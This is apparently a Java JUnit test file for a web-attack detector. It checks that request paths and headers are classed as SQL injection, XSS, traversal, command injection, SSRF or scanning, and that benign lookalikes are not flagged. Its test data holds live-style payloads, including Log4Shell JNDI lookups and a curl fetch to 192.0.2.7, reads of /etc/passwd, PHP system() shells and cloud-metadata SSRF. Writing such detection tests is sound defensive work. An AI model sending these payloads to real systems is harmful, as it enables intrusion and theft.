package dev.watchkeeper.engine.attack;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class AttacksTest {

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '\0',
            value = {
                "web_attack_sqli|/item?id=7%27%20OR%20%27a%27%3D%27a",
                "web_attack_sqli|/item?id=7+UNION+ALL+SELECT+null,version(),null--+-",
                "web_attack_sqli|/item?id=7)%20AND%20(SELECT%20COUNT(*)%20FROM%20information_schema.tables)%3E0",
                "web_attack_sqli|/item?id=7%2527%2520or%25201%253D1--",
                "web_attack_sqli|/login?user=admin'--",
                "web_attack_sqli|/item?id=7;WAITFOR%20DELAY%20'0:0:9'",
                "web_attack_sqli|/item?id=7'/**/un/**/ion/*!50000select*/1",
                "web_attack_sqli|/item?id=7%20and%20sleep(9)",
                "web_attack_sqli|/item?sort=(case%20when%20(1=1)%20then%20name%20else%20id%20end)",
                "web_attack_xss|/find?q=%3Cscript%3Ealert(1)%3C/script%3E",
                "web_attack_xss|/find?q=%3Csvg/onload=confirm(1)%3E",
                "web_attack_xss|/find?q=%22%20onmouseover=%22prompt(1)",
                "web_attack_xss|/find?q=%26lt;img+src=x+onerror%3Dalert(1)%26gt;",
                "web_attack_xss|/go?to=java%0Ascript:alert(1)",
                "web_attack_xss|/find?q=%u003cscript%u003e",
                "web_attack_traversal|/static/..%2f..%2f..%2fetc/passwd",
                "web_attack_traversal|/get?file=..\\..\\..\\windows\\win.ini",
                "web_attack_traversal|/get?file=%c0%ae%c0%ae/%c0%ae%c0%ae/secret",
                "web_attack_traversal|/get?file=/etc/passwd%00.png",
                "web_attack_traversal|/get?page=php://filter/convert.base64-encode/resource=index",
                "web_attack_command|/ping?host=1.2.3.4;id",
                "web_attack_command|/ping?host=1.2.3.4%7Ccat+/etc/hosts",
                "web_attack_command|/ping?host=$(curl+http://192.0.2.7/a)",
                "web_attack_command|/ping?host=%60uname+-a%60",
                "web_attack_command|/a?x=${jndi:ldap://192.0.2.7/a}",
                "web_attack_command|/a?x=$%7B$%7Blower:j%7Dndi:rmi://192.0.2.7/a%7D",
                "web_attack_command|/a?x=%3C?php+system($_GET[0]);?%3E",
                "web_attack_command|/a?x={{7*7}}",
                "web_attack_command|/a?x={{''.__class__.__mro__[1].__subclasses__()}}",
                "web_attack_command|/a?x=rO0ABXNyABFqYXZh",
                "web_attack_command|/a?class.module.classLoader.resources=1",
                "web_attack_command|/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
                "web_attack_other|/fetch?url=http://169.254.169.254/latest/meta-data/",
                "web_attack_other|/fetch?url=http://127.0.0.1:6379/",
                "web_attack_other|/fetch?url=gopher://192.0.2.7:70/_x",
                "web_attack_command|/a?x=(%27sys%27.%27tem%27)(%27id%27)",
                "web_attack_command|/a?x=p%60%60ing+-c+3+192.0.2.7",
                "web_attack_other|/login?PHPSESSID=abc123",
                "web_attack_other|/a?x=b%0d%0aSet-Cookie:%20a=b",
                "web_attack_scanner|/.env",
                "web_attack_scanner|/.git/config",
                "web_attack_scanner|/phpmyadmin/",
                "web_attack_scanner|/actuator/heapdump",
            })
    void an_attack_is_seen_and_named(String troubleClass, String target) {
        assertThat(Attacks.in(new Request(target, "Mozilla/5.0", "-", 200)))
                .hasValueSatisfying(
                        attack -> assertThat(attack.kind().troubleClass()).isEqualTo(troubleClass));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/",
                "/search?q=select+a+car+from+the+list",
                "/search?q=union+square+and+5th+avenue",
                "/search?q=drop+table+saw+or+delete+from+cart",
                "/search?q=rock+%27n%27+roll",
                "/search?q=O%27Brien+and+5+others",
                "/search?q=it%27s+5+o%27clock+and+%27fun%27+begins",
                "/search?q=don%27t+drop+the+table;+update+me+later",
                "/search?q=the+Joneses%27+house+or+mine",
                "/search?q=between+3+and+5%3F",
                "/search?q=how+to+use+%60git+rebase%60+well",
                "/search?q=C%2B%2B+%26+Java%3B+which+one%3F",
                "/search?q=kubectl",
                "/search?q=who+is+the+host+of+this+show",
                "/search?q=cat+and+dog+food%3B+more+for+less",
                "/search?q=a+%3C+b+and+c+%3E+d",
                "/search?q=%3Cb%3Ebold%3C/b%3E+text",
                "/search?q=price+%3E%3D+100",
                "/api?filter=%7B%22a%22:1,%22b%22:%5B2,3%5D%7D",
                "/api?fields=id,name,(address,city)",
                "/api?filter=price+gt+10+and+price+lt+20",
                "/api?sort=-created_at,name&limit=20",
                "/api?ids[]=1&ids[]=2&parent[id]=7",
                "/api?next=https%3A%2F%2Fexample.com%2Faccount%3Fid%3D7",
                "/api?t=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI3In0.c2lnbmF0dXJl",
                "/api?data=SGVsbG8gV29ybGQsIHRoaXMgaXMgdGV4dA==",
                "/api?d=2026-01-02T03:04:05%2B01:00",
                "/api?text=**bold**+and+%60code%60+and+%5Blink%5D(https://example.com)",
                "/api?cb=jQuery33106_1700000000000&_=1700000000001",
                "/api?consent=${GDPR_CONSENT_755}",
                "/api?name={{username}}",
                "/api?version=1.0..2.0",
                "/~user/files/a.b-c_d%20e.txt",
                "/shop;jsessionid=AB12CD?page=2",
                "/docs/java.html",
                "/wp-login.php",
                "/wp-admin/admin-ajax.php?action=heartbeat",
                "/assets/app.1a2b3c.js?v=1.2.3",
                "/.well-known/acme-challenge/abc",
                "/blog/tags/shell?page=2",
                "/search?q=5%27+10%22+tall",
                "http://10.0.0.5:8080/index.html",
                "/item.php?return=/account/orders",
                "/login?next=/session",
                "/posts/my--slug-with--dashes?utm_source=news&utm_campaign=spring+%26+summer",
            })
    void an_ordinary_request_is_none(String target) {
        assertThat(Attacks.in(new Request(
                        target,
                        "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101",
                        "https://example.com/?q=a+b",
                        200)))
                .isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
                "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
                "Links (2.3pre1; Linux 2.6.38-8-generic x86_64; 170x48)",
                "curl/8.5.0",
                "Wget/1.21",
                "python-requests/2.32",
                "Go-http-client/1.1",
                "kube-probe/1.30",
                "okhttp/4.12.0",
                "Apache-HttpClient/4.5.14 (Java/17.0.9)"
            })
    void an_ordinary_program_is_no_scanner(String userAgent) {
        assertThat(Attacks.in(new Request("/", userAgent, "-", 200))).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "sqlmap/1.7#stable (https://sqlmap.org)",
                "Mozilla/5.00 (Nikto/2.5.0)",
                "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"
            })
    void a_scanner_that_gives_its_name_is_one(String userAgent) {
        assertThat(Attacks.in(new Request("/", userAgent, "-", 404))).hasValueSatisfying(attack -> {
            assertThat(attack.part()).isEqualTo(Part.USER_AGENT);
            assertThat(attack.kind().troubleClass()).isEqualTo("web_attack_scanner");
        });
    }

    @Test
    void the_evidence_stands_where_it_says() {
        String target = "/item?a=1&id=7%27%20OR%201%3D1--";

        Attack attack = Attacks.in(new Request(target, "-", "-", 200)).orElseThrow();

        assertThat(attack.place()).isEqualTo("query argument id");
        assertThat(target.substring(attack.start(), attack.end())).isEqualTo(attack.evidence());
        assertThat(attack.evidence()).startsWith("%27").contains("OR");
    }

    @Test
    void the_answer_says_how_bad_it_is() {
        assertThat(Risk.of(200)).isEqualTo(Risk.HIGH);
        assertThat(Risk.of(500)).isEqualTo(Risk.HIGH);
        assertThat(Risk.of(302)).isEqualTo(Risk.MEDIUM);
        assertThat(Risk.of(404)).isEqualTo(Risk.LOW);
        assertThat(Risk.of(null)).isEqualTo(Risk.MEDIUM);
    }

    @Test
    void an_attack_may_stand_in_a_header() {
        assertThat(Attacks.in(new Request("/", "${jndi:ldap://192.0.2.7/a}", "-", 200)))
                .hasValueSatisfying(attack -> assertThat(attack.part()).isEqualTo(Part.USER_AGENT));
        assertThat(Attacks.in(new Request("/", "-", "https://example.com/?q=%3Cscript%3E", 200)))
                .hasValueSatisfying(attack -> assertThat(attack.part()).isEqualTo(Part.REFERER));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/cgi-bin/camera/video.cgi",
                "/crx/de/index.jsp",
                "/sap/bc/ui2/flp",
                "/nwa",
                "/irj/portal",
                "/Telerik.Web.UI.WebResource.axd?type=rau",
                "/api/v2/cmdb/system/admin/anna",
                "/ISAPI/Security/userCheck",
            })
    void the_door_of_a_product_counts_only_where_the_server_does_not_have_it(String target) {
        assertThat(Attacks.in(new Request(target, "Mozilla/5.0", "-", 404)))
                .hasValueSatisfying(
                        attack -> assertThat(attack.kind().troubleClass()).isEqualTo("web_attack_scanner"));
        assertThat(Attacks.in(new Request(target, "Mozilla/5.0", "-", 200))).isEmpty();
        assertThat(Attacks.in(new Request("/docs" + target.replace('/', '-'), "Mozilla/5.0", "-", 404)))
                .isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/service/extension/backup/mboximport?account-name=anna&ow=1",
                "/php/utils/createRemoteAppwebSession.php/x.js.map",
                "/setup/setupadministrator.action",
                "/glpi/vendor/htmlawed/htmlawed/htmLawedTest.php",
            })
    void a_way_in_that_is_known_to_all_counts_whatever_the_answer_is(String target) {
        assertThat(Attacks.in(new Request(target, "Mozilla/5.0", "-", 200)))
                .hasValueSatisfying(
                        attack -> assertThat(attack.kind().troubleClass()).isEqualTo("web_attack_command"));
    }

    @Test
    void who_searched_for_an_address_before_attacks_nobody() {
        assertThat(Attacks.in(new Request("/", "Mozilla/5.0", "https://search.example.com/?q=localhost/", 200)))
                .isEmpty();
        assertThat(Attacks.in(new Request("/?author=1", "Mozilla/5.0", "-", 200)))
                .isEmpty();
    }
}
